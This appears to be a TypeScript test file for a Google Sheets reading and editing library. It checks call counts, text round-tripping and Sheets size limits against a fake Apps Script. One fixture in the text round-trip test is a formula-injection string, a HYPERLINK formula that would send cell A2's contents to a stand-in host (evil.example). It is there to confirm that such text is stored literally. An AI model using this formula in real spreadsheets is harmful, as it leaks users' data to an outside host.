import fc from 'fast-check';
import { applyPlan } from './applyPlan';
import { applyEdit, editCalls, readSheet } from './readSheet';
import { asText } from '../sheets/text';
import { cellText, columnRuns, kindMetadata, sheetKind } from '../sheets/read';
import { asSpreadsheet, installFakeGas } from '../../../test/helpers/fakeGas';

const KIND = sheetKind('test-kind', { players: 'test-players', title: 'test-title' });

describe('readSheet', () => {
  it('reads a trimmed sheet in two reads (four calls), sized from the sheet: cells past its data read as empty', () => {
    const gas = installFakeGas();
    const ss = asSpreadsheet(gas);
    const sheet = applyPlan(ss, {
      name: 'Small',
      kind: KIND.kind,
      cells: [
        ['Ann', 3],
        ['Bob', '=B1+1'],
      ],
      metadata: kindMetadata(KIND, { players: 2, title: 'Open' }),
    });
    let grid!: ReturnType<typeof readSheet>;
    expect(gas.calls.measure(() => (grid = readSheet(sheet)))).toBe(4); // getName, getDeveloperMetadata, getDataRange, getValues
    expect(grid.kind).toBe('test-kind');
    expect(grid.metaInt(KIND.keys.players, 1)).toBe(2);
    expect(grid.meta(KIND.keys.title)).toBe('Open');
    expect(grid.number(2, 2)).toBe(4);
    expect(grid.text(1, 1)).toBe('Ann');
    expect(grid.at(500, 40)).toBe('');
    expect(grid.where(2, 2)).toBe('"Small" B2');
    sheet.addDeveloperMetadata('test-record', 'a');
    sheet.addDeveloperMetadata('test-record', 'b');
    expect(readSheet(sheet).metaAll('test-record')).toEqual(['a', 'b']);
  });
});

describe('the text reader and the text writer', () => {
  it("any text read from a cell and written back reads back identical (leading = + - @ ' included)", () => {
    const gas = installFakeGas();
    const ss = asSpreadsheet(gas);
    const sheet = applyPlan(ss, { name: 'Names', kind: KIND.kind, cells: [['x']] });
    const names = ['=HYPERLINK("http://evil.example/?"&A2,"x")', '=1+1', "'Tis", "''", '+49', '-3', '@me', 'TRUE', '007', '3/4/2024', '50%', ' lead', 'trail '];
    const arb = fc.oneof(
      fc.constantFrom(...names),
      fc.tuple(fc.constantFrom('=', '+', '-', '@', "'", ''), fc.string({ minLength: 1, maxLength: 12 })).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(arb, (name) => {
        sheet.getRange(1, 1).setValue(asText(name));
        const first = cellText(readSheet(sheet).at(1, 1));
        // Read back, then written again the way every edit writes text it read.
        applyEdit(sheet, { blocks: [{ row: 1, column: 1, values: [[asText(first)]] }] });
        expect(cellText(readSheet(sheet).at(1, 1))).toBe(first);
        expect(first).toBe(name);
      }),
      { numRuns: 200 },
    );
  });
});

describe('applyEdit', () => {
  it('writes only the changed runs of a column, adds metadata, and its calls are counted by editCalls', () => {
    const gas = installFakeGas();
    const ss = asSpreadsheet(gas);
    const sheet = applyPlan(ss, { name: 'Edit', kind: KIND.kind, cells: Array.from({ length: 6 }, (_, i) => [`P${i + 1}`]) });
    sheet.getRange(3, 1).setValue('typed by the TD');
    const edit = {
      blocks: columnRuns(
        1,
        new Map([
          [1, 'A'],
          [2, 'B'],
          [5, 'E'],
        ]),
      ),
      metadata: { 'test-x': '1' },
    };
    expect(edit.blocks).toHaveLength(2);
    const calls = gas.calls.measure(() => applyEdit(sheet, edit));
    expect(calls).toBe(editCalls(edit));
    const grid = readSheet(sheet);
    expect([1, 2, 3, 4, 5, 6].map((r) => grid.text(r, 1))).toEqual(['A', 'B', 'typed by the TD', 'P4', 'E', 'P6']);
    expect(grid.meta('test-x')).toBe('1');
  });
});

describe('applyEdit refuses what Sheets would refuse, before writing anything', () => {
  it('a cell over 50,000 characters or a number that is not finite: an error naming the cell, nothing written', () => {
    const gas = installFakeGas();
    const sheet = applyPlan(asSpreadsheet(gas), { name: 'Limits', kind: KIND.kind, cells: [['a'], ['b']] });
    expect(() => applyEdit(sheet, { blocks: [{ row: 1, column: 1, values: [['x'], ['y'.repeat(50_001)]] }] })).toThrow(
      'Cell A2 of "Limits" would hold 50,001 characters, over Sheets\' limit of 50,000 per cell',
    );
    expect(() => applyEdit(sheet, { blocks: [{ row: 1, column: 1, values: [[Infinity]] }] })).toThrow(
      'Cell A1 of "Limits" would hold a number too large to compute with',
    );
    expect([1, 2].map((r) => readSheet(sheet).text(r, 1))).toEqual(['a', 'b']);
  });

  it('rows that take the spreadsheet past 10,000,000 cells: refused before the first write', () => {
    const gas = installFakeGas();
    const ss = asSpreadsheet(gas);
    const sheet = applyPlan(ss, { name: 'Log', kind: KIND.kind, cells: [['a']] });
    const big = ss.insertSheet('Big');
    big.insertRowsAfter(big.getMaxRows(), Math.floor(10_000_000 / big.getMaxColumns()) - big.getMaxRows() - 2000);
    const before = sheet.getMaxRows();
    expect(() => applyEdit(sheet, { insertRowsAfter: [{ row: 1, count: 20_000 }], blocks: [{ row: 2, column: 1, values: [['new']] }] })).toThrow(
      /over Google Sheets' limit of 10,000,000 cells.*nothing was written/,
    );
    expect(sheet.getMaxRows()).toBe(before);
    expect(readSheet(sheet).text(2, 1)).toBe('');
  });
});
